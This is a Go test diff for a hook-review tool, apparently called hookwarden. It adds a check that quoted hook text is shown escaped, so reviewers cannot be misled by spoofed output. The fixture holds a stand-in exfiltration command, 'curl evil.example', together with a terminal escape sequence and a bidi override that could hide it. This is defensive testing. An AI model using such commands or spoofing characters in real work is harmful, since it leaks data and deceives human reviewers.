@@ -9,6 +9,7 @@ import (
 	"fyne.io/fyne/v2/test"
 
 	"github.com/hookwarden/hookwarden/hooks"
+	"github.com/hookwarden/hookwarden/risk"
 )
 
 // exfilScript sends the hook's input to a third party.
@@ -161,5 +162,18 @@ func approveAnywayIfAsked(t *testing.T, f *reviewFixture) {
 	if anyContains(dialogTexts(f.w), "Approve a critical hook?") {
 		tapDialogButton(t, f.w, "Approve anyway")
 		f.q.settle()
+	}
+}
+
+// A finding quotes the hook's own text: it is drawn escaped, so a control
+// or bidi character cannot forge what the reviewer reads.
+func TestFindingTextIsEscaped(t *testing.T) {
+	test.NewTempApp(t)
+	f := risk.Finding{Category: risk.Exfiltration, Severity: risk.LevelCritical, Summary: "sends x to evil.example\u202e",
+		Source: risk.Source{File: "a.sh", Line: 2, Col: 1, Text: "curl evil.example\r\x1b[2Kecho formatting"}}
+	for _, s := range textsOf(findingsView(risk.Report{Level: risk.LevelCritical, Findings: []risk.Finding{f}}, pathNamer{})) {
+		if strings.ContainsAny(s, "\x1b\r\u202e") {
+			t.Errorf("drawn raw: %q", s)
+		}
 	}
 }
